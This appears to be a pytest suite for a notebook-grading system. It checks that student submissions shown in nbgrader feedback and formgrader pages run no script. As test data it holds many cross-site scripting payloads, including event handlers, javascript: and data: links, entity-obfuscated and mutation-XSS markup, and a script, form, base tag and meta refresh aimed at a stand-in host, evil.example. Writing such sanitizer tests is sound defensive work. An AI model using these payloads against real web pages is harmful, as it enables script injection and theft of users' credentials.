# ruff: noqa: E501  (each attack is one entry of a table)
"""Whoever reads the feedback or opens formgrader sees text and pictures, and runs nothing of a student's."""

import json
import re
import time
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.filters import markdown2html

from course.authoring.answers import submission
from course.grading import harmless

from .conftest import LIMITS, MODEL, SERVER, own

ACTIVE = {
    "script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "style", "link", "meta", "base",
    "video", "audio", "frame", "frameset", "applet", "template", "marquee", "details", "select", "textarea", "body",
}  # fmt: skip
SCRIPTS = {
    "a script": "<script>alert('PWNED')</script>",
    "a script from elsewhere": "<script src=//evil.example/PWNED></script>",
    "a picture that fails": "<img src=x onerror=alert('PWNED')>",
    "a picture in capitals": "<IMG SRC=x ONERROR=alert('PWNED')>",
    "half a tag": "<img src=x onerror=alert('PWNED') ",
    "a tag in a tag": "<scr<script>ipt>alert('PWNED')</scr</script>ipt>",
    "a slash for a space": "<svg/onload=alert('PWNED')>",
    "an allowed tag": "<b onmouseover=alert('PWNED')>x</b>",
    "a table with a handler": "<table onclick=alert('PWNED')><tr><td style='background:url(javascript:alert(1))'>x</table>",
    "a link": "<a href=\"javascript:alert('PWNED')\">x</a>",
    "a link with entities": "<a href='&#106;avascript&colon;alert(1)'>PWNED</a>",
    "quotes of two kinds": '<a href="https://x/\'> y" onclick="alert(\'PWNED\')" x>z</a>',
    "quotes of two kinds, the other way": "<img src='data:image/png;base64,AA==\"> ' onerror='alert(1)' x>",
    "a tag around a tag": "<b<script>>alert('PWNED')<b onclick=alert(1)</b>>",
    "an attribute of two lines": "<a href=\"https://x\nonclick=alert('PWNED')\">x</a>",
    "a comment": "<!--><script>alert('PWNED')</script>-->",
    "a form": "<form action=//evil.example><input name=password><button>PWNED</button></form>",
    "a frame": "<iframe srcdoc=\"<script>alert('PWNED')</script>\"></iframe>",
    "a style": "<style>body{display:none}</style>",
    "a base": "<base href=//evil.example/>",
    "a jump": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "mutated markup": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('PWNED')&gt;\">",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert('PWNED')>\"></noscript>",
    "an end of the page": "</div></body></html><script>alert('PWNED')</script>",
    "a null": "<scr\0ipt>alert('PWNED')</scr\0ipt>",
    "CDATA": "<![CDATA[<script>alert('PWNED')</script>]]>",
    "an instruction": "<?xml-stylesheet href='javascript:alert(1)'?>PWNED",
}
MARKDOWN = SCRIPTS | {
    "a link of Markdown": "[PWNED](javascript:alert(1))",
    "a link with an escape": "[PWNED](javascript\\:alert(1))",
    "a link with entities, in Markdown": "[PWNED](&#x6A;avascript&colon;alert(1))",
    "a link in brackets": "[PWNED](<java\tscript:alert(1)>)",
    "a link elsewhere": "[PWNED][1]\n\n[1]: JaVaScRiPt:alert(1)",
    "an autolink": "<javascript:alert(1)>",
    "an autolink with a handler": "<https://x/onclick=alert('PWNED')>",
    "a picture of Markdown": "![x](x\"onerror=\"alert('PWNED'))",
    "a title": "[x](http://x 'PWNED\"onclick=\"alert(1)')",
    "TeX": "$\\href{javascript:alert(1)}{PWNED}$",
    "TeX with a macro": "$\\newcommand{\\x}[1]{\\href{#1script:alert(1)}{PWNED}}\\x{java}$",
    "code": "```<script>alert('PWNED')</script>\nx\n```",
    "vbscript": "[PWNED](vbscript:msgbox(1))",
    "data": "[PWNED](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
}


class Page(HTMLParser):
    """What of a page would run."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        if tag in ACTIVE:
            self.found.append(tag)
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or address.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg")):
                self.found.append(f"{tag} {name}={value}")
            if "url(" in address or "expression(" in address:
                self.found.append(f"{tag} {name}={value}")


def page(graded):
    """The cells of the notebook as nbgrader's feedback and formgrader show them."""
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    exporter = HTMLExporter(config=Config({"HTMLExporter": {"template_name": "basic", "exclude_input_prompt": True}}))
    notebook = nbformat.from_dict(json.loads(json.dumps(graded.notebook)))
    return exporter.from_notebook_node(notebook)[0]


def test_markdown_of_a_student_runs_nothing(mini_assignment, mini_release, hand_over):
    notebook = json.loads(submission(mini_assignment, mini_release, MODEL))
    texts = list(MARKDOWN.values())
    manual = next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "why")
    manual["source"] = texts[0]
    notebook["cells"][0]["source"] += "\n\n" + texts[1]  # the instructor's text, with a note of the student's in it
    for n, text in enumerate(texts):
        for kind in ("markdown", "raw"):
            notebook["cells"].append(own(text, f"{kind}-{n}", kind))
    graded = hand_over(json.dumps(notebook).encode(), mini_assignment)
    assert Page(page(graded)).found == []
    assert "script:alert" not in graded.everything
    assert "\\\\href" not in graded.everything


@pytest.mark.parametrize(
    "kind", ["text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/plain"]
)
def test_what_a_cell_displays_runs_nothing(attack, kind):
    shows = "from IPython.display import display\n" + "\n".join(
        f"display({{{kind!r}: {text!r}, 'text/plain': 'plain'}}, raw=True)" for text in MARKDOWN.values()
    )
    graded = attack(before=[shows])
    assert Page(page(graded)).found == []
    assert graded.result.points == 4.5


STRANGE = {
    "a picture that is none": {"image/png": '"><script>alert("PWNED")</script>'},
    "a picture's other type": {"image/jpeg": "' onerror='alert(\"PWNED\")"},
    "widgets": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert('PWNED')</script>"}},
    "Vega": {"application/vnd.vegalite.v5+json": {"data": "</script><script>alert('PWNED')</script>"}},
    "a type that is markup": {"text/<script>alert('PWNED')</script>": "x", "<script>": "y"},
    "mermaid": {"text/vnd.mermaid": "graph TD; A-->B; click A href \"javascript:alert('PWNED')\""},
    "PDF": {"application/pdf": "x"},
}


def test_forged_outputs_run_nothing(attack):
    outputs = [
        {"output_type": "display_data", "data": data, "metadata": {"text/html": {"isolated": True}}}
        for data in STRANGE.values()
    ]
    outputs += [
        {"output_type": "execute_result", "data": {"text/html": text}, "metadata": {}} for text in SCRIPTS.values()
    ]
    outputs += [{"output_type": "stream", "name": "stdout", "text": text} for text in SCRIPTS.values()]
    outputs += [
        {
            "output_type": "error",
            "ename": text,
            "evalue": text,
            "traceback": [text, "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\"],
        }
        for text in SCRIPTS.values()
    ]
    forge = f"{SERVER}\nanswering('run', lambda self, message: ['ran', 'ok', '', '', [], {outputs!r}])"
    graded = attack(double=MODEL["double"] + "\n" + MODEL["mean"], before=[], after=[forge, "1"])
    assert Page(page(graded)).found == []


def test_names_and_messages_run_nothing(attack):
    name = "<script>alert('PWNED')</script>"
    answers = {
        "double": f"def double(x):\n    raise ValueError({name!r})",
        "mean": f"def mean(x):\n    raise type({name!r}, (Exception,), {{}})({name!r})",
    }
    graded = attack(**answers)
    assert Page(page(graded)).found == []


HIDDEN = [f"A {dollar}{slash}href{{javascript<br>:alert(1)}}{{click}}{dollar} B" for dollar, slash in [
    ("&dollar;", "&bsol;"), ("&#36;", "&#92;"), ("&#x24;", "&#x5c;"), ("$", "&bsol;"), ("&#0036", "&#0092"),
]]  # fmt: skip


@pytest.mark.parametrize("text", HIDDEN)
def test_no_command_hides_behind_entities(text):
    made = harmless.html(text)
    assert "\\href" not in unescape(made)
    assert "click" in made
    said = markdown2html(harmless.markdown(text))
    assert "\\href" not in unescape(said)
    assert "click" in said


@pytest.mark.parametrize(
    "text",
    ["![t](https://evil.example/a.png)", "![t][r]\n\n[r]: https://evil.example/a.png", "![a[b]](//evil.example)"],
)
def test_a_picture_from_elsewhere_does_not_tell_who_reads_this(text):
    assert "<img" not in markdown2html(harmless.markdown(text))


def test_an_address_stays_one():
    said = markdown2html(harmless.markdown("see <https://ok.example/a?b=1>."))
    assert "https://ok.example/a?b=1" in said
    assert "%3E" not in said
    assert harmless.markdown("![p.png](attachment:p.png) &eacute; &lt; &amp;", ["p.png"]) == (
        "![p.png](attachment:p.png) &eacute; &lt; &amp;"
    )


def test_attachments_are_pictures(mini_assignment, mini_release, hand_over):
    notebook = json.loads(submission(mini_assignment, mini_release, MODEL))
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    bundles = {
        "good.png": {"image/png": png},
        "bad.png": {"image/png": "\"onerror=\"alert('PWNED')"},
        "bad.svg": {"image/svg+xml": "<svg onload=alert('PWNED')>"},
        "html": {"text/html": "<script>alert('PWNED')</script>"},
        "x\"onerror=\"alert('PWNED')": {"image/png": png},
    }
    text = "\n".join(f"![{name}](attachment:{name})" for name in bundles)
    notebook["cells"].append(own(text, "note", "markdown") | {"attachments": bundles})
    graded = hand_over(json.dumps(notebook).encode(), mini_assignment)
    cell = next(cell for cell in graded.notebook.cells if "attachment:good.png" in cell.source)
    assert cell.attachments["good.png"] == {"image/png": png}
    shown = page(graded)
    assert f"data:image/png;base64,{png}" in shown
    assert Page(shown).found == []


@pytest.mark.parametrize(
    "piece", ["<", "<b ", "<script", "<style>", "<!--", "<a href='", "s c r i p t ", "&#", "attachment", "\x1b[", "``"]
)
def test_making_harmless_takes_no_longer_than_reading(piece):
    text = piece * (100_000 // len(piece))
    began = time.monotonic()
    harmless.markdown(text), harmless.html(text), harmless.plain(text)
    assert time.monotonic() - began < 1


HONEST_TEXT = """# My answer

If $a < b$ & $c>d$, then **a & b**: `if a<b: x &= 1` and $\\begin{matrix} 1 & 2 \\\\ 3 & 4 \\end{matrix}$.

| x | y |
|---|---|
| 1 | 2 |

See [the slides](https://example.org/?a=1&b=2), 3 < 4, a <b> c</b> and H<sub>2</sub>O<br>.
"""


def test_honest_text_stays_as_it_is(mini_assignment, mini_release, hand_over):
    notebook = json.loads(submission(mini_assignment, mini_release, MODEL))
    notebook["cells"].append(own(HONEST_TEXT, "note", "markdown"))
    graded = hand_over(json.dumps(notebook).encode(), mini_assignment)
    source = graded.notebook.cells[-1].source
    changed = [(a, b) for a, b in zip(HONEST_TEXT.split("\n"), source.split("\n"), strict=True) if a != b]
    assert [b.replace("a< b:", "a<b:").replace("& b=2", "&b=2") for _, b in changed] == [a for a, _ in changed]
    shown = page(graded)
    assert "<table>" in shown
    assert 'href="https://example.org/?a=1' in shown


def test_honest_tables_and_pictures_are_shown(attack):
    table = """
from IPython.display import HTML, Image, Markdown, Math, display
import matplotlib.pyplot as plt
display(HTML('<style>td { color: red }</style><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>'
             '<tbody><tr><th>0</th><td>1 &lt; 2</td></tr></tbody></table>'))
display(Markdown('**bold** $x < y$'))
display(Math(r'\\frac{1}{2}'))
plt.plot([1, 2]); plt.show()
"""
    graded = attack(limits=replace(LIMITS, output_bytes=200_000), before=[table])
    kinds = [output.data.keys() for output in graded.notebook.cells[2].outputs]
    assert [next(iter({"text/html", "text/markdown", "text/latex", "image/png"} & set(kind))) for kind in kinds] == [
        "text/html", "text/markdown", "text/latex", "image/png",
    ]  # fmt: skip
    html = graded.notebook.cells[2].outputs[0].data["text/html"]
    assert "<td>1 &lt; 2</td>" in html
    assert "color: red" not in html
    assert "text-align: right" in html
